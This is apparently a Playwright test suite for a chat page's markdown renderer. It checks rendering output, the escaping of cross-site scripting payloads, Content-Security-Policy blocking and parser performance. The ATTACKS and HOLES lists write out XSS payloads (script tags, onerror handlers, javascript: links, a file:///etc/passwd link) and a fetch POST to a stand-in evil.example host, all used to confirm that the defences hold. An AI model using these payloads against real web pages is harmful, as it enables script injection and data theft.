"""Text of the model in the page: markdown as elements, and attacks that stay text."""

from __future__ import annotations

import pytest
from playwright.sync_api import Locator, expect

from tests.serve.page_browser import OpenPage, Watched
from tests.serve.page_server import call

pytest_plugins = ["tests.serve.page_fixtures"]
pytestmark = pytest.mark.browser

# Elements with the attributes that matter and text in brackets: short, and exact.
OUTLINE = """
function outline(node) {
  if (node.nodeType === Node.TEXT_NODE) return node.data;
  if (node.tagName === "FIGCAPTION") return "";
  const kept = ["href", "start", "checked", "target", "rel"].filter((name) => node.hasAttribute(name));
  const attributes = kept.map((name) => ` ${name}=${node.getAttribute(name)}`).join("");
  return `<${node.tagName.toLowerCase()}${attributes}>` + [...node.childNodes].map(outline).join("") + "</>";
}
"""
BUILD = """
async (text) => {
  const { Prose } = await import("/static/prose.js");
  const prose = new Prose();
  prose.update(text);
  return [...prose.element.childNodes].map(outline).join("");
}
"""


def shown(chat: Watched, text: str) -> str:
    """Outline of the elements made of a markdown text."""
    result: str = chat.page.evaluate(f"(text) => {{ {OUTLINE} return ({BUILD})(text); }}", text)
    return result


LINK = " target=_blank rel=noopener noreferrer>"
CASES = {
    "plain": ("a < b & c", "<p>a < b & c</>"),
    "lines": ("静夜思\n床前明月光", "<p>静夜思<br></>床前明月光</>"),
    "paragraphs": ("a\n\n\nb", "<p>a</><p>b</>"),
    "bold": ("**a** __b__", "<p><strong>a</> <strong>b</></>"),
    "bold between Chinese": ("他说**“你好”**了", "<p>他说<strong>“你好”</>了</>"),
    "italic": ("*a* _b_ snake_case_name 2*3*4", "<p><em>a</> <em>b</> snake_case_name 2<em>3</>4</>"),
    "bold italic": ("***a***", "<p><strong><em>a</></></>"),
    "nested": ("**a *b* c** *d **e***", "<p><strong>a <em>b</> c</> <em>d <strong>e</></></>"),
    "unclosed": ("**a *b and ~~c", "<p>**a *b and ~~c</>"),
    "spaced stars": ("a * b * c ** d", "<p>a * b * c ** d</>"),
    "struck": ("~~a~~", "<p><del>a</></>"),
    "escaped": (r"\*a\* \`b\` \\ \q", r"<p>*a* `b` \ \q</>"),
    "code": ("`a **b** <i>` and ``c ` d``", "<p><code>a **b** <i></> and <code>c ` d</></>"),
    "unclosed code": ("`a **b**", "<p>`a <strong>b</></>"),
    "marker in code": ("**a `**` b**", "<p><strong>a <code>**</> b</></>"),
    "headings": ("# a\n## b #\n#hashtag", "<h3>a</><h4>b</><p>#hashtag</>"),
    "rule": ("a\n\n---\n***", "<p>a</><hr></><hr></>"),
    "quote": ("> a\n> > b\nc", "<blockquote><p>a</><blockquote><p>b<br></>c</></></>"),
    "list": ("- a\n- b\n  - c\n- d", "<ul><li>a</><li>b<ul><li>c</></></><li>d</></>"),
    "numbers": ("3. a\n4. b\n\n5. c", "<ol start=3><li>a</><li>b</><li>c</></>"),
    "list behind a line": ("see:\n1. a\n2. b\n1984. no", "<p>see:</><ol><li>a</><li>b</><li>no</></>"),
    "year": ("It was\n1984. Or", "<p>It was<br></>1984. Or</>"),
    "list with code": (
        "1. a\n   ```\n   x\n     y\n   ```\n2. b",
        "<ol><li>a<figure><pre><code>x\n  y</></></></><li>b</></>",
    ),
    "list of paragraphs": ("- a\n\n  b\n- c", "<ul><li>a<p>b</></><li>c</></>"),
    "tasks": ("- [x] a\n- [ ] b", "<ul><li><input checked=></>a</><li><input></>b</></>"),
    "fence": (
        "```py\nif a:\n    b()\n```\nc",
        "<figure><pre><code><span>if</> a:\n    <span>b</>()</></></><p>c</>",
    ),
    "open fence": ("```\na\n\n- b", "<figure><pre><code>a\n\n- b</></></>"),
    "tildes around a fence": ("~~~~\n```\n~~~\n~~~~", "<figure><pre><code>```\n~~~</></></>"),
    "table": (
        "| a | b |\n|:--|--:|\n| 1 | `x` \\| y |\n| 2 |\nend",
        "<div><table><thead><tr><th>a</><th>b</></></><tbody><tr><td>1</><td><code>x</> | y</></>"
        "<tr><td>2</><td></></></></></><p>end</>",
    ),
    "no table": ("a | b\nc | d", "<p>a | b<br></>c | d</>"),
    "link": ("[a *b*](https://x.org/p?q=1 't')", f"<p><a href=https://x.org/p?q=1{LINK}a <em>b</></></>"),
    "link with brackets": (
        "[a](https://x.org/A_(b)) c",
        f"<p><a href=https://x.org/A_(b){LINK}a</> c</>",
    ),
    "bare address": (
        "见https://x.org/a，or (http://y.org/b). xhttp://z.org",
        f"<p>见<a href=https://x.org/a{LINK}https://x.org/a</>，or (<a href=http://y.org/b{LINK}http://y.org/b</>)."
        " xhttp://z.org</>",
    ),
    "address in angles": ("<https://x.org/>", f"<p><a href=https://x.org/{LINK}https://x.org/</></>"),
    "image is a link": ("![alt](https://x.org/i.png)", f"<p><a href=https://x.org/i.png{LINK}alt</></>"),
    "link in a link": (
        "[a https://y.org b](https://x.org/)",
        f"<p><a href=https://x.org/{LINK}a https://y.org b</></>",
    ),
}

ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload=window.hit=1><a href='javascript:window.hit=1'>x</a></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "[x](javascript:window.hit=1) <javascript:window.hit=1>",
    "[x](JaVaScRiPt:window.hit=1) [y](java\tscript:window.hit=1) [z](\x01javascript:window.hit=1)",
    "[x](data:text/html,<script>window.hit=1</script>) [y](vbscript:x) [z](file:///etc/passwd) [w](//evil.example)",
    "![x](https://evil.example/track.png) ![y](data:image/svg+xml,<svg/onload=window.hit=1>)",
    '[x](https://a.example/" onmouseover="window.hit=1)',
    "```html\n<script>window.hit = 1</script>\n```",
    '```"><img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>',
    "`</code><script>window.hit=1</script>`",
    "| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |",
    "# <b onclick=window.hit=1>x</b>\n> <style>*{display:none}</style>\n- <form action=https://evil.example>",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#x3C;img src=x onerror=window.hit=1&#x3E;",
    "\u202e\u0000</p><script>window.hit=1</script>",
]


@pytest.fixture(scope="module")
def shared(chromium, page_server):  # type: ignore[no-untyped-def]
    """One page for the texts that are only built, never shown."""
    context = chromium.new_context()
    watched = Watched(context.new_page(), *page_server)
    watched.watch(watched.page)
    watched.open()
    yield watched
    context.close()
    watched.check()


@pytest.mark.parametrize("name", CASES)
def test_markdown(shared: Watched, name: str) -> None:
    source, expected = CASES[name]
    assert shown(shared, source) == expected


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_becomes_no_element_of_its_own(shared: Watched, attack: str) -> None:
    kinds = set(shared.page.evaluate(
        """async (text) => {
          const { Prose } = await import("/static/prose.js");
          const prose = new Prose();
          prose.update(text);
          document.body.append(prose.element);
          const found = [...prose.element.querySelectorAll("*")].flatMap((element) => [
            element.tagName.toLowerCase(),
            ...element.getAttributeNames().filter((name) => /^(on.*|src|style)$/.test(name)),
            ...(element.href ? [new URL(element.href).protocol] : []),
          ]);
          prose.element.remove();
          return found;
        }""",
        attack,
    ))  # fmt: skip
    own = set("p br h3 blockquote ul li a code pre figure figcaption span button svg path".split())
    assert kinds <= own | set("div table thead tbody tr th td https: http:".split())
    assert shared.page.evaluate("window.hit") is None


def test_attacks_in_every_place_of_the_page_stay_text(chat: Watched) -> None:
    attack = "<img src=x onerror='window.hit=1'><script>window.hit=1</script>"
    arguments = f'{{"q": "{attack}"}}'
    chat.exchange(attack, ["\n\n".join(ATTACKS)])
    chat.exchange(attack, [call(0, arguments, attack, "call_1")], finish="tool_calls")
    chat.page.locator(".call textarea").fill(attack)
    chat.exchange_results(attack, status=400, message=attack, headers={"x-request-id": "<b>"})
    expect(chat.questions.first.locator(".bubble")).to_have_text(attack)
    expect(chat.page.locator("#chat-title")).to_contain_text("<img src=x")
    expect(chat.page.locator(".problem")).to_contain_text(attack)
    assert (
        chat.page.locator(
            "main img, main script:not([src]), main iframe, main style, main form[action]"
        ).count()
        == 0
    )
    chat.page.reload()
    expect(chat.page.locator(".chat-open")).to_contain_text("<img src=x")
    assert chat.page.evaluate("window.hit") is None


HOLES = {
    "markup": """document.body.innerHTML = "<img src=x onerror='window.hit=1'>" """,
    "handler": """document.body.setAttribute("onclick", "window.hit = 1"); document.body.click()""",
    "script": """document.body.append(Object.assign(document.createElement("script"), { text: "window.hit = 1" }))""",
    "eval": """setTimeout("window.hit = 1")""",
    "address": """location.href = "javascript:window.hit = 1" """,
    "picture": """new Image().src = "https://evil.example/x.png" """,
    "post": """fetch("https://evil.example/", { method: "POST", body: "x" }).catch(() => {})""",
}


def test_policy_stops_what_would_get_through(chat: Watched) -> None:
    """The second wall: a hole in the page would neither run code of the model nor send anything."""
    failed: list[str | None] = []
    chat.page.on("requestfailed", lambda request: failed.append(request.failure))
    for hole in HOLES.values():
        chat.page.evaluate(
            f"() => {{ try {{ {hole}; }} catch (error) {{ console.error(error.name, error.message); }} }}"
        )
    chat.page.wait_for_timeout(100)
    assert chat.page.evaluate("window.hit") is None
    assert len(chat.problems) >= len(HOLES)
    # Chromium reports the picture as a request that the policy ended before it was sent, the post not at all.
    assert failed == ["csp"]
    chat.problems.clear()
    chat.requests.clear()


# Pieces that make a careless parser search to the end of the text again at every step.
TWISTED = ["**a", "*a", "[", "](", "`a``", "~~a ", "_a ", "\\", "<h", "*_", "[a](", "***a "]

# How often the parser looks at the text, counted, for a text and for one four times as long.
LOOKS = """async (piece) => {
  const { parseInline } = await import("/static/inline.js");
  return [500, 2000].map((times) => {
    let looks = 0;
    const get = (text, key) => {
      looks += 1;
      const value = text[key];
      return typeof value === "function" ? value.bind(text) : value;
    };
    parseInline(new Proxy(new String(piece.repeat(times)), { get }));
    return looks;
  });
}"""


@pytest.mark.parametrize("piece", TWISTED)
def test_work_grows_no_faster_than_the_text(shared: Watched, piece: str) -> None:
    short, long = shared.page.evaluate(LOOKS, piece)
    assert 500 <= short <= long < 4.5 * short


@pytest.mark.parametrize("piece", [*TWISTED, "http://(", "> ", "- ", "|-", "~~~ ", "1. "])
def test_long_and_twisted_texts_keep_their_letters(shared: Watched, piece: str) -> None:
    assert shown(shared, piece * 3000)
    assert shown(shared, "\n".join([piece] * 3000))


def test_growing_text_keeps_the_elements_that_did_not_change(shared: Watched) -> None:
    kept = shared.page.evaluate(
        """async () => {
          const { Prose } = await import("/static/prose.js");
          const prose = new Prose();
          prose.update("first\\n\\n- a");
          const [first, list] = prose.element.children;
          prose.update("first\\n\\n- a\\n- b\\n\\nend");
          const now = [...prose.element.children];
          return [now.length, now[0] === first, now[1] === list];
        }"""
    )
    assert kept == [3, True, False]


def test_colours_of_code_change_no_letter(shared: Watched) -> None:
    code = 'def f(a: int = 0x1F) -> str:  # "note"\n\treturn f"{a!r}" + \'\'\'x\n"y"\'\'\' + "𠮷\\"" / 1_000.5e-3'
    for language in ("python", "js", "c", "bash", "sql", "json", "unknown", "PY"):
        pieces = shared.page.evaluate(
            """async ([code, language]) => (await import("/static/code.js")).highlight(code, language)""",
            [code, language],
        )
        assert "".join(text for _, text in pieces) == code
        assert (len(pieces) > 1) == (language != "unknown")


def figure(chat: Watched) -> Locator:
    """The code blocks of all answers."""
    return chat.answers.locator("figure.code")


def test_wide_code_and_tables_scroll_by_themselves(open_page: OpenPage) -> None:
    chat = open_page(viewport={"width": 390, "height": 800})
    table = f"| {'wide ' * 20} |" * 2 + "\n|---|---|\n"
    chat.exchange("q", [f"```\n{'x' * 400}\n```\n\n", table, "x" * 400])
    expect(figure(chat)).to_be_visible()
    assert chat.page.evaluate("document.documentElement.scrollWidth") <= 390
    assert chat.page.locator("#scroller").evaluate("e => e.scrollWidth - e.clientWidth") <= 0
